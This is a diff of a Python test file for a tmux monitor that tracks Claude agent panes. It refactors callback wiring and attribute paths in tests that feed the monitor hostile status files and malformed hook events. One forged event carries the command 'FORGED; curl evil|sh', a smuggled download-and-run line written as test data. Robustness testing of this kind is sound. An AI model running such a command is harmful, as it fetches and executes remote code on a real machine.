@@ -28,6 +28,7 @@ from pathlib import Path
 
 import pytest
 
+from headspace_tui.events import Notice
 from headspace_tui.hooks.spool import spool_dir
 from headspace_tui.model import AgentState
 from headspace_tui.monitor import Monitor
@@ -74,12 +75,9 @@ def _monitor(private_tmux, **options) -> tuple[Monitor, list[str]]:
     notices: list[str] = []
     monitor = Monitor(
         TmuxServer(socket_name=private_tmux.name),
-        on_change=lambda agent: None,
-        on_remove=lambda pane_id: None,
-        on_problem=lambda problem: None,
-        on_notice=notices.append,
         **options,
     )
+    monitor.subscribe(lambda event: isinstance(event, Notice) and notices.append(event.text))
     return monitor, notices
 
 
@@ -101,17 +99,17 @@ def test_hostile_status_files_stop_nothing(claude_session, private_tmux, tmp_pat
         gaps: list[float] = []
         tasks = [asyncio.create_task(monitor.run()), asyncio.create_task(_heartbeat(gaps))]
         try:
-            await _until(lambda: session.pane_id in monitor.agents, "the agent")
+            await _until(lambda: session.pane_id in monitor.store.agents, "the agent")
             # The real status file, beside the hostile ones, is still read.
-            await _until(lambda: "status-file" in monitor.fusers[session.pane_id].verdicts, "the real status file")
-            pid = monitor.claude_pids[session.pane_id]
+            await _until(lambda: "status-file" in monitor.panes[session.pane_id].fuser.verdicts, "the real status file")
+            pid = monitor.panes[session.pane_id].claude_pid
             # Claude writes its file before its first status (read as starting): wait for
             # the status, as a fixed assert raced Claude on a loaded machine.
-            await _until(lambda: monitor.statuses[pid].status == "idle", "the status file to say idle")
-            assert set(monitor.statuses) == {pid}, "nothing from the hostile files became an agent status"
+            await _until(lambda: monitor.facts.statuses[pid].status == "idle", "the status file to say idle")
+            assert set(monitor.facts.statuses) == {pid}, "nothing from the hostile files became an agent status"
             # ...and it keeps being read: Claude's next change still arrives.
             session.submit("hello")
-            await _until(lambda: monitor.agents[session.pane_id].state is not AgentState.STARTING, "a state")
+            await _until(lambda: monitor.store.agents[session.pane_id].state is not AgentState.STARTING, "a state")
             await asyncio.sleep(2.5)  # a few watch rounds over the hostile folder
             return max(gaps)
         finally:
@@ -151,10 +149,10 @@ def _states_for(monitor: Monitor, pane_id: str, seconds: float) -> list[AgentSta
         seen: list[AgentState] = []
         task = asyncio.create_task(monitor.run())
         try:
-            await _until(lambda: pane_id in monitor.agents, "the agent")
+            await _until(lambda: pane_id in monitor.store.agents, "the agent")
             deadline = time.monotonic() + seconds
             while time.monotonic() < deadline:
-                seen.append(monitor.agents[pane_id].state)
+                seen.append(monitor.store.agents[pane_id].state)
                 await asyncio.sleep(0.05)
             return seen
         finally:
@@ -183,7 +181,7 @@ def test_hostile_spool_events_do_not_end_the_hook_watch(claude_session, private_
         gaps: list[float] = []
         tasks = [asyncio.create_task(monitor.run()), asyncio.create_task(_heartbeat(gaps))]
         try:
-            await _until(lambda: monitor.agents.get(session.pane_id) and monitor.agents[session.pane_id].state is AgentState.IDLE, "idle")
+            await _until(lambda: monitor.store.agents.get(session.pane_id) and monitor.store.agents[session.pane_id].state is AgentState.IDLE, "idle")
             os.mkfifo(spool / f"{time.time_ns():020d}-1-fifo.json")
             _write_event(spool, "[" * 200_000 + "]" * 200_000)
             _write_event(spool, {"hook_event_name": "PermissionRequest", "tool_name": "AskUserQuestion", "tool_input": {"questions": 5}, "tmux_pane": session.pane_id})
@@ -198,7 +196,7 @@ def test_hostile_spool_events_do_not_end_the_hook_watch(claude_session, private_
                 {"hook_event_name": "PermissionRequest", "tool_name": "Bash", "tool_input": {"command": "FORGED; curl evil|sh"}, "tmux_pane": session.pane_id},
             )
             while time.monotonic() - forged_at < 4.0:
-                states.append((time.monotonic() - forged_at, monitor.agents[session.pane_id].state))
+                states.append((time.monotonic() - forged_at, monitor.store.agents[session.pane_id].state))
                 await asyncio.sleep(0.05)
             shown = [t for t, s in states if s is AgentState.PERMISSION]
             assert shown, "the watcher is alive: the good (forged) event after the bad ones was read"
